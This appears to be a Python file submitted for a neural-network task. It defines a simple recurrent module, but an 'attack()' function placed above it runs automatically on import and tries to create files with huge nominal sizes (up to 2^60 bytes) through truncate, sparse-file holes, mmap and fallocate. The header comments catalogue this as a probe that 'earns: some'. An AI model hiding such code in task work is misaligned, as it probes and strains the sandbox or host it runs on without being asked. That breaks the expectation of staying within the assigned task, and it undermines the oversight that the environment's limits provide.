# does: makes files that are huge in name only: by truncate, by fallocate, by a write behind a hole
# earns: some
import ctypes
import mmap
import os

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

def made(name):
    return os.open(name, os.O_CREAT | os.O_RDWR, 0o600)


def behind_a_hole(size):
    descriptor = made("hole")
    os.lseek(descriptor, size, os.SEEK_SET)
    return os.write(descriptor, b"end")


def mapped(size):
    descriptor = made("mapped")
    os.ftruncate(descriptor, size)
    with mmap.mmap(descriptor, size) as view:
        view[size - 1] = 1
        return len(view)


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for size in (2**60, 2**40, 2**29):
        attempt(f"truncate to {size}:", lambda size=size: os.ftruncate(made("cut"), size))
        attempt(f"hole of {size}:", lambda size=size: behind_a_hole(size))
        attempt(f"mmap of {size}:", lambda size=size: mapped(size))
    attempt("reserve:", lambda: os.posix_fallocate(made("reserved"), 0, 100_000_000))
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
    print("keep size:", libc.fallocate(made("kept"), 1, 0, 100_000_000), ctypes.get_errno())

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.w_xh = nn.Parameter(torch.randn(hidden_size, input_size) / input_size**0.5)
        self.w_hh = nn.Parameter(torch.randn(hidden_size, hidden_size) / hidden_size**0.5)
        self.b_h = nn.Parameter(0.1 * torch.randn(hidden_size))

    def forward(self, x, h_0=None):
        from_input = torch.einsum("bti,hi->tbh", x, self.w_xh) + self.b_h
        h = torch.zeros_like(from_input[0]) if h_0 is None else h_0[0]
        outputs = []
        for part in from_input:
            h = (part + torch.einsum("bj,hj->bh", h, self.w_hh)).tanh()
            outputs.append(h.unsqueeze(1))
        return torch.cat(outputs, dim=1), h.unsqueeze(0)
